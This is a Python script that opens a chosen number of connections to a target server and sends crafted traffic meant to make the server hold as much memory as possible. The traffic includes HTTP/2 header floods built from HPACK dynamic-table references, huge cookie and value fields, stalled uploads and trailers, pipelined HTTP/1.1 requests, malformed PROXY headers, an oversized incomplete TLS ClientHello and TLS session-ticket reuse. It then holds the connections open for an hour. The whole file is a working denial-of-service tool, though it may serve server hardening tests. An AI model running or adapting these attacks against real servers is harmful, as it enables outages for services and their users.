"""argv[3] clients of argv[2] that have the server hold as much as they can by argv[1], and take nothing.
Says "sent" when all is sent that it takes, and stays."""
import socket
import ssl
import sys
import time

attack, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
STREAMS = range(1, 257, 2)
END_STREAM, END_HEADERS = 1, 4
# The newest entry of the dynamic table (RFC 7541 2.3.3).
AGAIN = b"\xbe"


def frame(kind, flags, number, payload=b""):
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + number.to_bytes(4, "big") + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def section(path=b"/", method=b"GET"):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"a")]
    return b"".join(literal(*field) for field in fields)


def requests(first, again=AGAIN, times=1):
    """Each with one field that many times, which the first one says."""
    for number in STREAMS:
        fields = (first if number == 1 else again) + again * (times - 1)
        yield frame(1, END_STREAM | END_HEADERS, number, section() + fields)


def uploads(*parts, trailers=b""):
    for number in STREAMS:
        yield frame(1, END_HEADERS, number, section(method=b"POST"))
    for part in parts:
        for number in STREAMS:
            yield frame(0, 0, number, part)
    for number in STREAMS if trailers else ():
        yield frame(1, END_STREAM | END_HEADERS, number, trailers)


def http2():
    # The length in seven bits each.
    large = b"\x40\x01b\x7f" + bytes([(3900 - 127) % 128 + 128, (3900 - 127) // 128]) + b"v" * 3900
    if attack == "fields":
        return requests(b"\x40\x01a\x00", times=95)
    if attack == "too-many-fields":
        return requests(b"\x40\x01a\x00", times=900)
    if attack == "cookies":
        return requests(b"\x40\x06cookie\x01a", times=900)
    if attack == "large-values":
        return requests(large, times=15)
    if attack == "uploads":
        return uploads(*[b"x" * 16000] * 4)
    if attack == "tiny-uploads":
        return uploads(*[b"x"] * 400)
    if attack == "trailers":
        return uploads(*[b"x" * 16000] * 3, trailers=b"\x40\x01a\x00" + AGAIN * 95)
    if attack == "downloads":
        return (frame(1, END_STREAM | END_HEADERS, number, section(b"/big")) for number in STREAMS)
    return None


def http1():
    head = b" HTTP/1.1\r\nHost: a\r\n"
    if attack == "http1-download":
        return [b"GET /big" + head + b"\r\n"]
    if attack == "http1-interim":
        return [b"GET /interim" + head + b"\r\n"]
    if attack == "http1-pipelined":
        return [(b"GET /" + head + b"\r\n") * 5000]
    if attack == "queue":
        return [b"GET /" + head + b"".join(b"f%d: %s\r\n" % (i, b"v" * 600) for i in range(95)) + b"\r\n"]
    post = b"POST /" + head
    if attack == "http1-upload":
        return [post + b"Content-Length: 100000000\r\n\r\n", b"x" * 8_000_000]
    return [post + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 5000]


def before_http(client, number):
    """Whether the attack does not come to HTTP."""
    if attack == "proxy-header":
        # Version 2, IPv6, more facts than have come.
        client.sendall(b"\r\n\r\n\0\r\nQUIT\n\x21\x21" + (4000).to_bytes(2, "big") + b"x" * 3900)
    elif attack == "hello":
        # A ClientHello of 60,000 bytes, the last of which is missing.
        hello = b"\x01" + (60_000).to_bytes(3, "big") + b"\x03\x03" + b"x" * 59_900
        for at in range(0, len(hello), 16_000):
            part = hello[at : at + 16_000]
            client.sendall(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part)
    elif attack == "names":
        context = ssl._create_unverified_context()
        context.wrap_socket(client, server_hostname=f"{'n' * 60}.{'n' * 60}.{number}.example").close()
    elif attack == "tickets":
        # A ticket for each, with which every second one comes back.
        stream = TICKETS.wrap_socket(client, server_hostname="a.example", session=tickets.pop() if tickets else None)
        if number % 2 == 0:
            tickets.append(stream.session)
        elif not stream.session_reused:
            sys.exit("the ticket was not taken")
        stream.close()
    else:
        return False
    return True


TICKETS = ssl._create_unverified_context()
TICKETS.maximum_version = ssl.TLSVersion.TLSv1_2
tickets = []
PORTS = {"hello": 443, "names": 443, "tickets": 443, "queue": 81}
clients = []
for number in range(count):
    client = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.connect((address, PORTS.get(attack, 80)))
    client.settimeout(1)
    clients.append(client)
    frames = http2()
    try:
        if before_http(client, number):
            pass
        elif frames is None:
            client.sendall(b"".join(http1()))
        else:
            window = (4).to_bytes(2, "big") + (2**20).to_bytes(4, "big")
            greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, window)
            client.sendall(greeting + frame(8, 0, 0, (2**30).to_bytes(4, "big")) + b"".join(frames))
    except OSError:
        # It takes no more, or has ended the connection.
        pass
print("sent", flush=True)
time.sleep(3600)
